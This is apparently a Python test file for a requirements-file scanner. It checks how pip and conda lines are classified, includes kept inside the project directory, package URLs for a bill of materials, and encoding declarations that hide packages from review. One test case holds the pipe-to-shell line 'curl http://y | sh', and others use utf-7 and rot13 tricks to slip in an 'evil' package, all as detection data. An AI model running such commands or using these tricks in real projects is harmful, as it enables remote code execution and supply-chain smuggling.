"""Lists of packages."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st
from packaging.requirements import InvalidRequirement, Requirement

from tests.formats.tensor_files import ids, mutations, survives
from tests.formats.tensor_files import read as read_format
from violet.formats.project.dependencies import components, read_file
from violet.formats.project.facts import Dependency, DependencyFacts, Setting
from violet.formats.project.requirements import classify, logical_lines
from violet.formats.project.specifier import exact, parse, pep440
from violet.formats.source import BytesSource
from violet.formats.text.region import Lines
from violet.intel.packages import parse_purl

DIGEST = "sha256:" + "0123456789abcdef" * 4


def valid() -> bytes:
    return b"numpy==2.0 \\\n  --hash=sha256:00\n-r base.txt\nhelper @ https://x/h.whl # why\n--index-url https://y\n"


def read(text: str, name: str = "requirements.txt") -> DependencyFacts:
    facts = read_file(BytesSource(text.encode()), name)
    assert facts is not None
    return facts


@pytest.mark.parametrize(
    "name", ["requirements.txt", "requirements-dev.txt", "conda.yaml", "python_env.yaml", "environment.yml", "reqs.txt"]
)
def test_recognised(name: str) -> None:
    assert "requirements" in ids(valid(), name)


def test_recognised_by_content() -> None:
    assert "requirements" in ids(f"numpy==2.0 --hash={DIGEST}\n".encode(), "lock.txt")
    assert "requirements" in ids(
        b"# c\n-r common.txt\n\nnumba == 0.65.0 # why\ntorch>=2.6; python_version<'3'\n", "cuda.txt"
    )
    assert "requirements" not in ids(b"numpy is a library\n", "notes.txt")
    assert "requirements" not in ids(b"if a == b:\n    c >= d\nx == y\n", "notes.txt")
    assert "requirements" not in ids(b"numpy\ntorch\nscipy\n", "words.txt")
    assert "requirements" not in ids(b"name: model\n", "meta.yaml")


@pytest.mark.parametrize(
    ("line", "kind"),
    [
        ("numpy==2.0", "package"),
        ("numpy[extra]>=1; python_version>'3'", "package"),
        ("-r base.txt", "include"),
        ("-rbase.txt", "include"),
        ("-c base.txt", "constraint"),
        ("--index-url=https://x", "index"),
        ("--index https://x", "index"),
        ("-i https://x", "index"),
        ("--extra-index-url https://x", "extra-index"),
        ("--extra https://x", "extra-index"),
        ("--trusted x", "trusted-host"),
        ("--find-links https://x", "links"),
        ("-e .", "path"),
        ("-e git+https://x/y", "repository"),
        ("x @ git+ssh://git@x/y", "repository"),
        ("git+https://x/y@" + "a" * 40, "repository"),
        ("x @ https://x/y.whl", "url"),
        ("https://x/y-1.0-py3-none-any.whl", "url"),
        ("./x.whl", "path"),
        ("x-1.0-py3-none-any.whl", "path"),
        ("x; curl http://y | sh", "command"),
        ("--no-binary :all:", "option"),
        ("--require-hashes", "option"),
    ],
)
def test_kinds_of_lines(line: str, kind: str) -> None:
    made = classify(line, 0, Lines(line))
    assert made is not None
    assert made.kind == kind


def test_everything_of_a_line() -> None:
    text = (
        f"# one\nNumPy[a, b] >=1.2, <2 \\\n  --hash={DIGEST} \\\n  --hash=sha512:{'0' * 128} ; python_version<'3' # x\n"
    )
    (made,) = read(text).dependencies
    assert (made.name, made.extras, made.specifier, made.line) == ("NumPy", ("a", "b"), ">=1.2, <2", 2)
    assert [h.algorithm for h in made.hashes] == ["sha256", "sha512"]
    assert made.name_region is not None
    assert made.specifier_region is not None
    assert text[made.name_region.start : made.name_region.end] == "NumPy"
    assert text[made.specifier_region.start : made.specifier_region.end] == ">=1.2, <2"
    assert [text[r.start : r.end] for r in made.hash_regions] == [f"--hash={DIGEST}", f"--hash=sha512:{'0' * 128}"]
    assert (made.hash_regions[0].line, made.hash_regions[0].column) == (3, 2)
    assert made.hash_regions[1].line == 4


def test_a_comment_ends_a_line_that_asks_to_be_continued() -> None:
    """As in uv: what stands in the next line is no comment (to pip it is one)."""
    facts = read("numpy # why \\\nevil==1\n")
    assert [d.name for d in facts.dependencies] == ["numpy", "evil"]


def test_lines_end_where_pip_ends_them() -> None:
    facts = read("numpy==1.0\x0c--extra-index-url https://x.example\u2028torch==2.0\n")
    assert [d.name for d in facts.dependencies] == ["numpy", "torch"]
    assert [s.kind for s in facts.settings] == ["extra-index"]


def test_repositories_are_pinned_by_a_commit_only() -> None:
    facts = read("-e git+https://g/a.git@main#egg=a\nb @ git+https://g/b@" + "0" * 40 + "\nc @ git+https://g/c@v1\n")
    assert [(d.name, d.pinned, d.editable) for d in facts.dependencies] == [
        ("a", False, True),
        ("b", True, False),
        ("c", False, False),
    ]


def test_components_have_what_a_bill_of_materials_needs() -> None:
    (numpy, torch) = components(f"Scikit_Learn==1.2 --hash={DIGEST}\ntorch==2.0+cu118\n".encode(), "requirements.txt")
    assert (numpy.name, numpy.version, numpy.specifier) == ("scikit-learn", "1.2", "==1.2")
    assert numpy.purl == "pkg:pypi/scikit-learn@1.2"
    assert numpy.origin == "requirements.txt:1"
    assert str(numpy.hashes[0]) == DIGEST
    assert torch.purl == "pkg:pypi/torch@2.0%2Bcu118"


def test_includes_are_followed_inside_the_directory_only(tmp_path) -> None:  # type: ignore[no-untyped-def]
    inside = tmp_path / "project"
    (inside / "more").mkdir(parents=True)
    (tmp_path / "outside.txt").write_text("evil==1\n")
    (inside / "requirements.txt").write_text(
        "-r more/base\n-r ../outside.txt\n-r requirements.txt\n-r gone.txt\na==1\n"
    )
    (inside / "more" / "base").write_text("b==2\n-r ../requirements.txt\n")
    found = components(inside / "requirements.txt")
    assert [(c.name, c.origin) for c in found] == [("a", "requirements.txt:5"), ("b", "more/base:1")]


NAMES = st.from_regex(r"[A-Za-z][A-Za-z0-9._-]{0,12}[A-Za-z0-9]", fullmatch=True)
VERSIONS = st.from_regex(r"[0-9]{1,3}(\.[0-9]{1,3}){0,3}((a|b|rc)[0-9])?", fullmatch=True)
CLAUSES = st.lists(
    st.tuples(st.sampled_from(["==", ">=", "<=", "<", ">", "!="]), VERSIONS).map("".join), max_size=3, unique=True
)
EXTRAS = st.lists(NAMES, max_size=2, unique_by=str.lower)


@given(NAMES, EXTRAS, CLAUSES, st.sampled_from(["", " ", "  "]), st.booleans())
def test_requirements_are_understood_as_packaging_does(
    name: str, extras: list[str], clauses: list[str], space: str, marked: bool
) -> None:
    text = f"{name}{space}{'[' + ','.join(extras) + ']' if extras else ''}{space}{(space + ',').join(clauses)}"
    text += " ; python_version > '3.8'" if marked else ""
    theirs, ours = Requirement(text), parse(text)
    assert ours is not None
    assert ours.name == theirs.name
    assert {e.lower() for e in ours.extras} == {e.lower() for e in theirs.extras}
    assert {c.strip() for c in ours.specifier.split(",") if c} == set(clauses)
    assert bool(ours.marker) == (theirs.marker is not None)
    assert text[slice(*ours.name_at)] == name


@given(st.text(max_size=60))
def test_what_packaging_accepts_is_accepted(text: str) -> None:
    try:
        theirs = Requirement(text)
    except InvalidRequirement:
        parse(text)
        return
    ours = parse(text)
    assert ours is not None
    assert ours.name == theirs.name


@given(st.text(alphabet=st.sampled_from("ab=<>~!^.,0129* "), max_size=20))
def test_any_specifier_has_an_answer(text: str) -> None:
    exact(text)
    pep440(text)
    pep440(text, conda=True)


@pytest.mark.parametrize(
    ("written", "meant"),
    [
        ("^1.2.3", ">=1.2.3,<2"),
        ("^0.2.3", ">=0.2.3,<0.3"),
        ("^0.0.3", ">=0.0.3,<0.0.4"),
        ("~1.2.3", ">=1.2.3,<1.3"),
        ("~1", ">=1,<2"),
        ("1.2.3", "==1.2.3"),
        ("*", ""),
        (">=1,<2", ">=1,<2"),
        ("~=1.4", "~=1.4"),
    ],
)
def test_poetrys_specifiers(written: str, meant: str) -> None:
    assert pep440(written) == meant


ENTRIES = st.lists(st.tuples(NAMES, VERSIONS), min_size=1, max_size=6)


@given(ENTRIES, st.sampled_from(["\n", "\r\n"]), st.booleans())
def test_what_was_written_is_read_where_it_stands(entries: list[tuple[str, str]], end: str, hashed: bool) -> None:
    lines = [f"{n}=={v}" + (f" \\{end}    --hash={DIGEST}" if hashed else "") for n, v in entries]
    text = f"# c{end}" + end.join(lines) + end
    facts = read(text)
    assert [(d.name, d.version) for d in facts.dependencies] == entries
    for made in facts.dependencies:
        assert made.name_region is not None
        assert text[made.name_region.start : made.name_region.end] == made.name
        assert text.splitlines()[made.line - 1].startswith(made.name)
        assert len(made.hashes) == hashed


@given(st.text(max_size=200))
def test_positions_of_lines_are_those_of_the_text(text: str) -> None:
    for start, line in logical_lines(text):
        assert text[start] == line[0] or line[0] == " "


@given(st.binary(max_size=300) | mutations(valid))
def test_any_bytes(data: bytes) -> None:
    survives("requirements", data, "requirements.txt")
    survives("requirements", data, "conda.yaml")
    survives("requirements", data, "meta.yaml")


def test_many_lines_stay_within_the_bound() -> None:
    facts = read("a==1\n" * 30_000)
    assert len(facts.dependencies) <= 20_000
    assert facts.problem


@pytest.mark.parametrize(
    ("text", "other"),
    [
        ("# -*- coding: utf-7 -*-\n+AGU-vil==1\n", True),
        ("#!/x\n# vim: set fileencoding=unicode_escape :\n\\x65vil==1\n", True),
        ("# coding: rot13\nrivy==1\n", True),
        ("# coding: no-such-encoding\nnumpy==1\n", True),
        ("# coding: utf-8\nnumpy==1  # ä\n", False),
        ("# coding: latin-1\nnumpy==1\n", False),
        ("# coding: utf-7\nnumpy==1\n", False),
        ("numpy==1\n# one\n# coding: utf-7 +AGU-\n", False),
        ("numpy==1  # coding: utf-7 +AGU-\n", False),
    ],
)
def test_an_encoding_in_which_pip_reads_something_else_is_told(text: str, other: bool) -> None:
    facts = read(text)
    assert facts.problem.startswith("declares the encoding") is other
    parsed = read_format("requirements", text.encode(), "requirements.txt")
    assert any("declares the encoding" in part for part in parsed.unexamined) is other


def test_what_nobody_can_check_is_no_digest() -> None:
    for written in ("foo:ab", "sha256:ab", "sha256:" + "g" * 64, "md5:", ":" + "0" * 64, "sha256"):
        (made,) = read(f"numpy --hash={written}\n").dependencies
        assert (made.hashes, made.pinned) == ((), False), written
    (made,) = read("numpy --hash=blake2b:" + "0" * 128 + "\n").dependencies
    assert made.pinned


def test_names_and_versions_cannot_add_to_a_package_url() -> None:
    text = '[[package]]\nname = "numpy@9?x=y#z/é"\nversion = "1!2.0+a?b"\n'
    (made,) = components(text.encode(), "poetry.lock")
    assert made.purl == "pkg:pypi/numpy%409%3Fx%3Dy%23z/%C3%A9@1%212.0%2Ba%3Fb"
    parsed = parse_purl(made.purl)
    assert parsed is not None
    assert (parsed.version, parsed.qualifiers) == ("1!2.0+a?b", ())


def test_facts_are_either_of_two_kinds() -> None:
    facts = read("a==1\n-i https://x\n")
    assert isinstance(facts.dependencies[0], Dependency)
    assert isinstance(facts.settings[0], Setting)
